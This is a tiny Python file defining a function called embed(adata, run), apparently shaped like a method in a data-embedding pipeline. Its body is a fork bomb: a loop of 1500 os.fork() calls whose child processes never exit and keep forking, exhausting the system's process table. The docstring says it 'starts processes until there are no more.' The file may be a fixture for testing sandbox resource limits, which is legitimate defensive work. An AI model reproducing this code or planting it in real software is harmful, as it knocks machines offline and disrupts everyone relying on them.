"""Starts processes until there are no more."""

import os
import time


def embed(adata, run):
    for _ in range(1500):
        if os.fork() == 0:
            time.sleep(60)
    time.sleep(60)
